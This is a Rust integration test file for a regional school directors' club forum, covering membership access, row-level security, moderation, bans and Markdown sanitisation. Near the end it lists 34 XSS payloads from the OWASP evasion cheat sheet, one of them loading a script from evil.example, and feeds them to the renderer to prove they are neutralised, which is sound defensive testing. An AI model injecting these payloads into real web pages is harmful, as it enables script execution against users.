//! The directors' club (issue 14): who reads what (through the server functions, and by
//! row-level security alone with hand-written SQL), decisions, flags and bans, search
//! morphology and ranking, and Markdown that cannot carry script.

use app::club::*;
use serde_json::Value;
use uuid::Uuid;

use crate::helpers::{signed_in, spawn_app, user_id, TestApp};

pub const DEMO: &str = "leadership-sib-dv";

/// The people of a test: members by region and by invitation, and everyone who must read nothing.
pub struct People {
    pub khabarovsk: String,
    pub novosibirsk: String,
    pub moderator: String,
    pub teacher: String,
    pub third_region: String,
    pub other_club: String,
    pub banned: String,
}

pub async fn club_id(app: &TestApp, slug: &str) -> Uuid {
    sqlx::query_scalar("select id from clubs where slug = $1")
        .bind(slug)
        .fetch_one(&app.owner)
        .await
        .unwrap()
}

pub async fn people(app: &TestApp) -> People {
    let khabarovsk = signed_in(app, "khabarovsk", "director@khv.ru", "director", None).await;
    let novosibirsk = signed_in(app, "novosibirsk", "director@nsk.ru", "director", None).await;
    let moderator = signed_in(app, "ryazan", "moderator@club.ru", "teacher", None).await;
    let teacher = signed_in(app, "khabarovsk", "teacher@khv.ru", "teacher", None).await;
    let third_region = signed_in(app, "ryazan", "director@ryazan.ru", "director", None).await;
    let other_club = signed_in(app, "kuzbass", "director@kuzbass.ru", "director", None).await;
    let banned = signed_in(app, "khabarovsk", "banned@khv.ru", "director", None).await;
    let demo = club_id(app, DEMO).await;
    sqlx::query("insert into club_members (club_id, user_id, role) values ($1, $2, 'club_moderator')")
        .bind(demo)
        .bind(user_id(app, "moderator@club.ru").await)
        .execute(&app.owner)
        .await
        .unwrap();
    sqlx::query("insert into club_members (club_id, user_id, banned_until, ban_reason) values ($1, $2, now() + interval '7 days', 'спам')")
        .bind(demo)
        .bind(user_id(app, "banned@khv.ru").await)
        .execute(&app.owner)
        .await
        .unwrap();
    let mut conn = app.owner.acquire().await.unwrap();
    app::club::seed::create_club(
        &mut conn,
        "other-club",
        "Другой клуб",
        "",
        &["kuzbass".to_string()],
    )
    .await
    .unwrap();
    sqlx::query("insert into club_sections (club_id, slug, title) select id, 'general', 'Общий' from clubs where slug = 'other-club'")
        .execute(&mut *conn)
        .await
        .unwrap();
    People {
        khabarovsk,
        novosibirsk,
        moderator,
        teacher,
        third_region,
        other_club,
        banned,
    }
}

/// Calls a server function; returns the status and the JSON answer.
pub async fn call<F: leptos::server_fn::ServerFn>(
    app: &TestApp,
    form: &[(&str, &str)],
    cookies: &str,
) -> (u16, Value) {
    let response = app.call::<F>(form, cookies).await;
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

async fn first_thread(app: &TestApp) -> Uuid {
    sqlx::query_scalar(
        "select t.id from club_threads t join clubs c on c.id = t.club_id where c.slug = $1 order by t.created_at limit 1",
    )
    .bind(DEMO)
    .fetch_one(&app.owner)
    .await
    .unwrap()
}

#[tokio::test]
async fn members_read_the_club_and_no_one_else_reads_anything() {
    let app = spawn_app().await;
    let p = people(&app).await;
    let thread = first_thread(&app).await.to_string();
    let args = [("club", DEMO), ("thread", thread.as_str())];
    for (who, cookies) in [
        ("khabarovsk", &p.khabarovsk),
        ("novosibirsk", &p.novosibirsk),
        ("moderator", &p.moderator),
    ] {
        let (status, page) = call::<GetClubThread>(&app, &args, cookies).await;
        assert_eq!(status, 200, "{who}: {page}");
        assert!(
            page["posts"].as_array().unwrap().len() >= 2,
            "{who} reads the posts"
        );
    }
    for (who, cookies, expected) in [
        ("teacher", &p.teacher, 403),
        ("third region", &p.third_region, 403),
        ("other club", &p.other_club, 403),
        ("banned", &p.banned, 403),
        ("anonymous", &String::new(), 401),
    ] {
        let (status, _) = call::<GetClubThread>(&app, &args, cookies).await;
        assert_eq!(status, expected, "{who} reads a thread");
        let (status, _) = call::<SearchClub>(
            &app,
            &[("club", DEMO), ("q", "школа"), ("solved_only", "false")],
            cookies,
        )
        .await;
        assert_eq!(status, expected, "{who} searches");
        // The landing page answers everyone, with what the club is and how to join, and no sections.
        let (status, card) = call::<GetClub>(&app, &[("club", DEMO)], cookies).await;
        assert_eq!(status, 200, "{who}: {card}");
        assert_eq!(card["member"], false, "{who}");
        assert_eq!(card["sections"].as_array().unwrap().len(), 0, "{who}");
        assert!(
            card["regions"].as_array().unwrap().len() == 2,
            "{who} sees the regions"
        );
    }
    let (_, card) = call::<GetClub>(&app, &[("club", DEMO)], &p.novosibirsk).await;
    assert_eq!(card["member"], true);
    assert!(!card["sections"].as_array().unwrap().is_empty());
}

async fn count(tx: &mut sqlx::PgConnection, table: &str) -> i64 {
    sqlx::query_scalar(&format!("select count(*) from {table}"))
        .fetch_one(tx)
        .await
        .unwrap()
}

/// Row-level security alone: statements with no `club_id` filter of their own.
#[tokio::test]
async fn row_level_security_shows_only_the_members_club() {
    let app = spawn_app().await;
    people(&app).await;
    let demo = club_id(&app, DEMO).await;
    let other = club_id(&app, "other-club").await;
    let tables = [
        "club_regions",
        "club_sections",
        "club_threads",
        "club_posts",
        "club_reactions",
    ];
    // A member sees the club's rows.
    let mut tx = app::access::begin_club(&app.app_role, demo, user_id(&app, "director@nsk.ru").await)
        .await
        .unwrap();
    for table in tables {
        assert!(count(&mut tx, table).await > 0, "a member reads {table}");
    }
    tx.rollback().await.unwrap();
    // Nobody else sees a row, whichever club the transaction names.
    for email in [
        "teacher@khv.ru",
        "director@ryazan.ru",
        "director@kuzbass.ru",
        "banned@khv.ru",
    ] {
        let mut tx = app::access::begin_club(&app.app_role, demo, user_id(&app, email).await)
            .await
            .unwrap();
        for table in tables {
            assert_eq!(
                count(&mut tx, table).await,
                0,
                "{email} reads {table} of the demo club"
            );
        }
        tx.rollback().await.unwrap();
    }
    // A member of the other club, in her club's transaction, reads none of the demo club's rows
    // and cannot write into it.
    let kuzbass = user_id(&app, "director@kuzbass.ru").await;
    let mut tx = app::access::begin_club(&app.app_role, other, kuzbass)
        .await
        .unwrap();
    assert_eq!(count(&mut tx, "club_sections").await, 1);
    let foreign: i64 = sqlx::query_scalar("select count(*) from club_posts where club_id = $1")
        .bind(demo)
        .fetch_one(&mut *tx)
        .await
        .unwrap();
    assert_eq!(foreign, 0);
    let written = sqlx::query(
        "insert into club_reactions (club_id, post_id, user_id) select $1, id, $2 from club_posts",
    )
    .bind(demo)
    .bind(kuzbass)
    .execute(&mut *tx)
    .await
    .unwrap();
    assert_eq!(written.rows_affected(), 0, "nothing of the demo club to react to");
    let smuggled = sqlx::query("insert into club_sections (club_id, slug, title) values ($1, 'x', 'x')")
        .bind(demo)
        .execute(&mut *tx)
        .await;
    assert!(smuggled.is_err(), "with check refuses rows of another club");
    tx.rollback().await.unwrap();
    // Without the settings, nothing at all.
    let none: i64 = sqlx::query_scalar("select count(*) from club_posts")
        .fetch_one(&app.app_role)
        .await
        .unwrap();
    assert_eq!(none, 0);
}

#[tokio::test]
async fn a_thread_gets_replies_a_decision_and_useful_marks() {
    let app = spawn_app().await;
    let p = people(&app).await;
    let (status, thread) = call::<CreateClubThread>(
        &app,
        &[
            ("club", DEMO),
            ("section", "franchising"),
            ("title", "Как тиражировать практику"),
            ("body", "Вопрос **коллегам**"),
        ],
        &p.khabarovsk,
    )
    .await;
    assert_eq!(status, 200, "{thread}");
    let thread = thread.as_str().unwrap().to_string();
    let (status, number) = call::<ReplyClubThread>(
        &app,
        &[
            ("club", DEMO),
            ("thread", &thread),
            ("body", "Начните с паспорта практики"),
            ("quote", "1"),
        ],
        &p.novosibirsk,
    )
    .await;
    assert_eq!((status, number.as_i64()), (200, Some(2)));
    // Only the author or a moderator marks the decision.
    let mark = [("club", DEMO), ("thread", thread.as_str()), ("number", "2")];
    assert_eq!(call::<MarkClubDecision>(&app, &mark, &p.novosibirsk).await.0, 403);
    assert_eq!(call::<MarkClubDecision>(&app, &mark, &p.khabarovsk).await.0, 200);
    let (_, page) = call::<GetClubThread>(&app, &[("club", DEMO), ("thread", &thread)], &p.novosibirsk).await;
    assert_eq!(page["decision"]["number"], 2);
    assert_eq!(page["posts"][1]["quote"]["number"], 1);
    assert!(page["posts"][0]["html"]
        .as_str()
        .unwrap()
        .contains("<strong>коллегам</strong>"));
    let reply_id = page["posts"][1]["id"].as_str().unwrap().to_string();
    let (status, on) =
        call::<ToggleClubUseful>(&app, &[("club", DEMO), ("post", &reply_id)], &p.khabarovsk).await;
    assert_eq!((status, on), (200, Value::Bool(true)));
    assert_eq!(
        call::<ToggleClubUseful>(&app, &[("club", DEMO), ("post", &reply_id)], &p.novosibirsk)
            .await
            .0,
        400
    );
    // «Лучшие практики»: the most useful first; the demo threads' marks outrank this one, so the
    // reply is checked by its count.
    let (_, best) = call::<GetClubBest>(&app, &[("club", DEMO)], &p.novosibirsk).await;
    let useful: Vec<i64> = best
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["useful"].as_i64().unwrap())
        .collect();
    assert!(!useful.is_empty() && useful.windows(2).all(|w| w[0] >= w[1]) && useful.iter().all(|&n| n > 0));
    let marked: i32 = sqlx::query_scalar("select useful_count from club_posts where id = $1::uuid")
        .bind(&reply_id)
        .fetch_one(&app.owner)
        .await
        .unwrap();
    assert_eq!(marked, 1);
    // «Темы с принятым решением».
    let (_, solved) = call::<GetClubSection>(
        &app,
        &[
            ("club", DEMO),
            ("section", "franchising"),
            ("solved_only", "true"),
        ],
        &p.khabarovsk,
    )
    .await;
    let solved = solved["threads"].as_array().unwrap();
    assert!(solved.iter().all(|t| t["solved"] == true) && solved.iter().any(|t| t["id"] == thread.as_str()));
    // An edit keeps the earlier text for moderators only.
    let edit = [
        ("club", DEMO),
        ("post", reply_id.as_str()),
        ("body", "Начните с паспорта практики и договора"),
    ];
    assert_eq!(
        call::<EditClubPost>(&app, &edit, &p.khabarovsk).await.0,
        403,
        "not the author's post"
    );
    assert_eq!(call::<EditClubPost>(&app, &edit, &p.novosibirsk).await.0, 200);
    let history = [("club", DEMO), ("post", reply_id.as_str())];
    assert_eq!(
        call::<GetClubPostHistory>(&app, &history, &p.novosibirsk).await.0,
        403
    );
    let (_, edits) = call::<GetClubPostHistory>(&app, &history, &p.moderator).await;
    assert_eq!(edits[0]["body"], "Начните с паспорта практики");
}

#[tokio::test]
async fn live_updates_and_the_first_unread_post() {
    let app = spawn_app().await;
    let p = people(&app).await;
    let thread = first_thread(&app).await.to_string();
    let args = [("club", DEMO), ("thread", thread.as_str())];
    let (_, page) = call::<GetClubThread>(&app, &args, &p.khabarovsk).await;
    let last = page["last_number"].as_i64().unwrap();
    assert_eq!(page["first_unread"], 1, "never opened: from the start");
    for n in 0..25 {
        let body = format!("Ответ {n}");
        call::<ReplyClubThread>(
            &app,
            &[("club", DEMO), ("thread", &thread), ("body", &body)],
            &p.novosibirsk,
        )
        .await;
    }
    let after = last.to_string();
    let (_, new) = call::<GetClubPostsSince>(
        &app,
        &[("club", DEMO), ("thread", &thread), ("after", &after)],
        &p.moderator,
    )
    .await;
    assert_eq!(new[0]["number"].as_i64(), Some(last + 1));
    let (_, page) = call::<GetClubThread>(&app, &args, &p.khabarovsk).await;
    assert_eq!(page["first_unread"].as_i64(), Some(last + 1));
    assert_eq!(
        page["page"].as_i64(),
        Some(app::club::page_of(last as i32 + 1) as i64),
        "opens at the first unread"
    );
    assert_eq!(page["pages"], 2);
}

#[tokio::test]
async fn flags_reach_the_review_queue_and_a_ban_shuts_the_club() {
    let app = spawn_app().await;
    let p = people(&app).await;
    let thread = first_thread(&app).await.to_string();
    let (_, number) = call::<ReplyClubThread>(
        &app,
        &[("club", DEMO), ("thread", &thread), ("body", "Реклама курсов!")],
        &p.novosibirsk,
    )
    .await;
    let post: String =
        sqlx::query_scalar::<_, Uuid>("select id from club_posts where thread_id = $1 and number = $2")
            .bind(Uuid::parse_str(&thread).unwrap())
            .bind(number.as_i64().unwrap() as i32)
            .fetch_one(&app.owner)
            .await
            .unwrap()
            .to_string();
    let flag = [("club", DEMO), ("post", post.as_str()), ("reason", "реклама")];
    assert_eq!(call::<FlagClubPost>(&app, &flag, &p.khabarovsk).await.0, 200);
    assert_eq!(
        call::<FlagClubPost>(&app, &flag, &p.khabarovsk).await.0,
        400,
        "once per person"
    );
    assert_eq!(call::<FlagClubPost>(&app, &flag, &p.teacher).await.0, 403);
    assert_eq!(
        call::<GetClubModeration>(&app, &[("club", DEMO)], &p.khabarovsk)
            .await
            .0,
        403
    );
    let (_, queue) = call::<GetClubModeration>(&app, &[("club", DEMO)], &p.moderator).await;
    let flag_id = queue["flags"][0]["id"].as_str().unwrap().to_string();
    assert_eq!(queue["flags"][0]["reason"], "реклама");
    assert_eq!(
        call::<ResolveClubFlag>(
            &app,
            &[("club", DEMO), ("flag", &flag_id), ("hide", "true")],
            &p.moderator
        )
        .await
        .0,
        200
    );
    let (_, page) = call::<GetClubThread>(
        &app,
        &[("club", DEMO), ("thread", &thread), ("page", "1")],
        &p.khabarovsk,
    )
    .await;
    let hidden = page["posts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["id"] == post.as_str())
        .unwrap();
    assert_eq!(hidden["hidden_reason"], "реклама");
    assert_eq!(hidden["html"], "", "members do not read a hidden post");
    // A ban: the author reads nothing until it ends, and it is in the moderation log.
    let ban = [
        ("club", DEMO),
        ("post", post.as_str()),
        ("days", "3"),
        ("reason", "реклама"),
    ];
    assert_eq!(call::<BanClubMember>(&app, &ban, &p.khabarovsk).await.0, 403);
    assert_eq!(call::<BanClubMember>(&app, &ban, &p.moderator).await.0, 200);
    assert_eq!(
        call::<GetClubThread>(&app, &[("club", DEMO), ("thread", &thread)], &p.novosibirsk)
            .await
            .0,
        403
    );
    let (_, queue) = call::<GetClubModeration>(&app, &[("club", DEMO)], &p.moderator).await;
    let actions: Vec<&str> = queue["log"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["action"].as_str().unwrap())
        .collect();
    assert!(
        actions.contains(&"заблокировал участника") && actions.contains(&"рассмотрел жалобу"),
        "{actions:?}"
    );
    // Moderators pin, lock and move; a locked thread takes no replies from members.
    for (action, section) in [("pin", ""), ("lock", ""), ("move", "franchising")] {
        let args = [
            ("club", DEMO),
            ("thread", thread.as_str()),
            ("action", action),
            ("section", section),
        ];
        assert_eq!(
            call::<ModerateClubThread>(&app, &args, &p.khabarovsk).await.0,
            403
        );
        assert_eq!(
            call::<ModerateClubThread>(&app, &args, &p.moderator).await.0,
            200,
            "{action}"
        );
    }
    let reply = [("club", DEMO), ("thread", thread.as_str()), ("body", "ещё")];
    assert_eq!(call::<ReplyClubThread>(&app, &reply, &p.khabarovsk).await.0, 400);
}

/// Payloads from the OWASP XSS filter evasion cheat sheet and friends; none may leave a script,
/// an event handler, a `javascript:`/`data:` link, a style or an embedded object in the HTML.
const XSS: [&str; 34] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"x\" onclick=\"alert(1)\">x</a>",
    "<base href=\"javascript:alert(1)//\">",
    "<video><source onerror=\"alert(1)\"></video>",
    "<<script>alert(1)//<</script>",
    "`<img src=x onerror=alert(1)>` and <b onmouseover=alert(1)>bold</b>",
];

/// The first tag of `html` that is not on the allow-list, or that carries an attribute other
/// than a link to http(s) or mail (text, escaped code included, is not markup).
fn unsafe_markup(html: &str) -> Option<String> {
    const TAGS: [&str; 24] = [
        "p",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "del",
        "a",
        "blockquote",
        "code",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "br",
        "hr",
        "b",
    ];
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag_end = rest[start..].find('>').map_or(rest.len(), |end| start + end);
        let tag = &rest[start + 1..tag_end];
        rest = &rest[tag_end.min(rest.len())..];
        let tag = tag.trim_start_matches('/');
        let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        if !TAGS.contains(&name.to_lowercase().as_str()) {
            return Some(format!("<{tag}>"));
        }
        let attributes = tag[name.len()..].trim().trim_end_matches('/');
        if attributes.is_empty() {
            continue;
        }
        // Links go to http(s), mail, or a relative address (no scheme at all).
        let safe_href = |a: &str| {
            a.strip_prefix("href=\"").is_some_and(|url| {
                ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|s| url.starts_with(s))
                    || !url.split('/').next().unwrap_or_default().contains(':')
            })
        };
        let link_only = name == "a"
            && attributes
                .split_whitespace()
                .all(|a| safe_href(a) || a.starts_with("rel=\"") || a == "noreferrer" || a == "nofollow\"");
        if !link_only {
            return Some(format!("<{tag}>"));
        }
    }
    None
}

#[test]
fn markdown_carries_no_script() {
    for payload in XSS {
        let html = app::club::render(payload);
        assert_eq!(unsafe_markup(&html), None, "{payload:?} → {html:?}");
    }
    // The scanner itself finds what it should.
    assert!(unsafe_markup("<p>x</p><img src=x onerror=alert(1)>").is_some());
    assert!(unsafe_markup("<a href=\"javascript:alert(1)\">x</a>").is_some());
    assert!(unsafe_markup("<p onclick=\"x\">x</p>").is_some());
    assert_eq!(unsafe_markup("<p><code>&lt;img onerror=x&gt;</code> <a href=\"https://x.ru\" rel=\"noopener noreferrer nofollow\">x</a></p>"), None);
}

#[tokio::test]
async fn a_posted_payload_comes_back_sanitised() {
    let app = spawn_app().await;
    let p = people(&app).await;
    let body = XSS.join("\n\n");
    let (status, thread) = call::<CreateClubThread>(
        &app,
        &[
            ("club", DEMO),
            ("section", "franchising"),
            ("title", "<script>alert(1)</script>"),
            ("body", &body),
        ],
        &p.khabarovsk,
    )
    .await;
    assert_eq!(status, 200);
    let thread = thread.as_str().unwrap();
    let (status, _) = app.get_text(&format!("/club/{DEMO}/t/{thread}")).await;
    assert_eq!(status, 401, "the page needs a member");
    let response = app
        .get_with_cookies(&format!("/club/{DEMO}/t/{thread}"), &p.novosibirsk)
        .await;
    assert_eq!(response.status(), 200);
    let (_, page) = call::<GetClubThread>(&app, &[("club", DEMO), ("thread", thread)], &p.novosibirsk).await;
    let html = page["posts"][0]["html"].as_str().unwrap();
    assert_eq!(unsafe_markup(html), None, "{html}");
    assert_eq!(
        page["title"], "<script>alert(1)</script>",
        "titles are text, escaped when shown"
    );
}
